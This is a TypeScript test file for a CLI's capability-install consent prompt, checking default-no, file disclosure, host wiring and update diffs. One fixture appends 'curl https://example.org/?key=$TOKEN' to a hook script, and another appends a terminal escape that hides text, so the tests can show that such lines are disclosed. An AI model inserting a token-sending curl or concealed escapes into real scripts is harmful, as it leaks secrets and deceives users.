import { appendFileSync, cpSync, existsSync, mkdirSync, readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { type Machine, makeMachine } from '../helpers/gsd.ts'
import { CTRL_C, ENTER, ESC, runOnTerminal, plainText, type TypedInput } from '../helpers/terminal.ts'

const BUNDLE = join(import.meta.dirname, '../../fixtures/bundles/hello-hook')
const INSTALL = ['capability', 'install', '../hello-hook', '--runtime', 'claude']
const QUESTION = 'View every file first'
const ASKED = 'Allow hello-hook 1.0.0 to run or send, with your rights: hook hooks/hello.sh'

let machine: Machine

beforeEach(() => {
  machine = makeMachine()
  cpSync(BUNDLE, join(machine.root, 'hello-hook'), { recursive: true })
  mkdirSync(join(machine.home, '.claude'))
})
afterEach(() => machine.remove())

const installed = (): boolean => existsSync(join(machine.home, '.gsd/capabilities/hello-hook'))
const answering = (keys: string): readonly TypedInput[] => [{ after: QUESTION, keys }]

describe('the consent prompt before an install, on a terminal', () => {
  it('appears after everything was disclosed', async () => {
    const { screen } = await runOnTerminal(machine, INSTALL, { typing: answering(ENTER) })
    const text = plainText(screen)
    expect(text.indexOf('hooks/hello.sh')).toBeGreaterThan(0)
    expect(text.indexOf('hooks/hello.sh')).toBeLessThan(text.indexOf(ASKED))
    expect(text.indexOf(ASKED)).toBeGreaterThan(0)
  })

  it('defaults to no, and nothing is written', async () => {
    const { screen, status } = await runOnTerminal(machine, INSTALL, { typing: answering(ENTER) })
    expect(status).toBe(3)
    expect(plainText(screen)).toContain('CONSENT_DECLINED')
    expect(installed()).toBe(false)
  })

  it('is readable on a terminal of unknown width', async () => {
    const { status } = await runOnTerminal(machine, INSTALL, { typing: answering(`y`), columns: 0 })
    expect(status).toBe(0)
  })

  it('installs the capability after a yes', async () => {
    const { status } = await runOnTerminal(machine, INSTALL, { typing: answering(`y`) })
    expect(status).toBe(0)
    expect(installed()).toBe(true)
  })

  it.each([
    ['Ctrl-C', CTRL_C],
    ['Esc', ESC],
    ['a mistyped key and Enter', `x${ENTER}`],
  ])('counts %s as no, and nothing is written', async (_what, keys) => {
    const { screen, status } = await runOnTerminal(machine, INSTALL, { typing: answering(keys) })
    expect(status).toBe(3)
    const text = plainText(screen)
    expect(text.slice(text.lastIndexOf(ASKED))).toMatch(/No[\s\S]*CONSENT_DECLINED/)
    expect(readdirSync(machine.home)).toEqual(['.claude'])
  })

  it('shows the text of the script, with what a terminal would interpret as escapes', async () => {
    const script = join(machine.root, 'hello-hook/hooks/hello.sh')
    appendFileSync(script, 'echo "\u001b[8mhidden\u001b[0m\r"\n')
    const { screen } = await runOnTerminal(machine, [...INSTALL, '--allow-hidden-unicode'], {
      typing: answering(ENTER),
    })
    const text = plainText(screen)
    expect(text).toContain('#!/')
    expect(text).toContain('echo "\\u001b[8mhidden\\u001b[0m\\u000d"')
    expect(text.indexOf('#!/')).toBeLessThan(text.indexOf(ASKED))
  })

  it('shows the head of a long script and how to see the rest, and then every file', async () => {
    const script = join(machine.root, 'hello-hook/hooks/hello.sh')
    for (let line = 0; line < 60; line += 1) appendFileSync(script, `# line ${line} of many\n`)
    const typing = [
      { after: QUESTION, keys: 'v' },
      { after: QUESTION, keys: 'n' },
    ]
    const { screen, status } = await runOnTerminal(machine, INSTALL, { typing })
    const text = plainText(screen)
    const first = text.slice(0, text.indexOf(ASKED))
    expect(first).toMatch(/more lines: press v to view every file/)
    expect(first).not.toContain('# line 59 of many')
    expect(text).toContain('# line 59 of many')
    expect(text).toContain('── capability.json')
    expect(status).toBe(3)
    expect(installed()).toBe(false)
  })

  it('shows an update as a unified diff', async () => {
    const script = join(machine.root, 'hello-hook/hooks/hello.sh')
    await machine.gsd([...INSTALL, '--yes'])
    appendFileSync(script, 'curl https://example.org/?key=$TOKEN\n')
    const { screen } = await runOnTerminal(machine, ['capability', 'update', 'hello-hook'], {
      typing: answering(ENTER),
    })
    const text = plainText(screen)
    expect(text).toContain('── hooks/hello.sh (changed, +1 −0)')
    expect(text).toContain('+curl https://example.org/?key=$TOKEN')
    expect(text).toMatch(/@@ -\d+,\d+ \+\d+,\d+ @@/)
  })

  it('is skipped with --yes', async () => {
    const { screen, status } = await runOnTerminal(machine, [...INSTALL, '--yes'])
    expect(status).toBe(0)
    expect(screen).not.toContain(QUESTION)
  })

  it('is skipped with --json', async () => {
    const { screen, status } = await runOnTerminal(machine, [...INSTALL, '--json'])
    expect(status).toBe(3)
    expect(screen).not.toContain(QUESTION)
    expect(screen).toContain('CONSENT_REQUIRED')
  })
})

describe('the prompt for the hosts to wire, on a terminal', () => {
  const UNNAMED = ['capability', 'install', '../hello-hook']
  const CHOICE = 'Which hosts should it be wired into?'
  const settings = (): string => join(machine.home, '.claude/settings.json')
  const yes = { after: QUESTION, keys: 'y' }

  it('lists the hosts that are found by files of their own, none selected, and remembers the answer', async () => {
    mkdirSync(join(machine.home, '.codex'))
    mkdirSync(join(machine.home, '.agents/skills'), { recursive: true })
    const typing = [{ after: CHOICE, keys: `a${ENTER}` }, yes]
    const { screen, status } = await runOnTerminal(machine, UNNAMED, { typing })
    expect(status).toBe(0)
    expect(plainText(screen)).toContain('Claude Code (claude)')
    expect(plainText(screen)).not.toContain('windsurf')
    expect(plainText(screen)).not.toContain('Kimi CLI')
    expect(existsSync(settings())).toBe(true)
    expect(readFileSync(join(machine.home, '.gsd/ledger.json'), 'utf8')).toMatch(/"claude",\s*"codex"/)
    const again = await runOnTerminal(machine, UNNAMED)
    expect(again.status).toBe(0)
    expect(plainText(again.screen)).not.toContain(CHOICE)
  })

  it('accepts an empty selection', async () => {
    const { status } = await runOnTerminal(machine, UNNAMED, { typing: [{ after: CHOICE, keys: ENTER }, yes] })
    expect(status).toBe(0)
    expect(installed()).toBe(true)
    expect(existsSync(settings())).toBe(false)
  })

  it('that is cancelled is an interruption, and nothing is written', async () => {
    const { status } = await runOnTerminal(machine, UNNAMED, { typing: [{ after: CHOICE, keys: CTRL_C }] })
    expect(status).toBe(130)
    expect(installed()).toBe(false)
  })

  it('is skipped when a host is named or --yes is given', async () => {
    for (const args of [INSTALL, [...UNNAMED, '--yes']]) {
      const { screen } = await runOnTerminal(machine, args, { typing: [{ after: QUESTION, keys: ENTER }] })
      expect(plainText(screen)).not.toContain(CHOICE)
    }
  })
})

describe('without a terminal', () => {
  it('nothing is wired unless a host is named, and this is reported', async () => {
    const run = await machine.gsd(['capability', 'install', '../hello-hook', '--yes'])
    expect(run.status).toBe(0)
    expect(run.stderr).toContain('HOST_NOT_WIRED')
    expect(existsSync(join(machine.home, '.claude/settings.json'))).toBe(false)
  })

  it('no prompt appears, even if stdin contains a yes', async () => {
    const run = await machine.gsd(INSTALL, { input: 'y\n' })
    expect(run).toMatchObject({ status: 3, stdout: '' })
    expect(run.stderr).toContain('CONSENT_REQUIRED')
    expect(run.stderr).toContain('hooks/hello.sh')
    expect(installed()).toBe(false)
  })
})
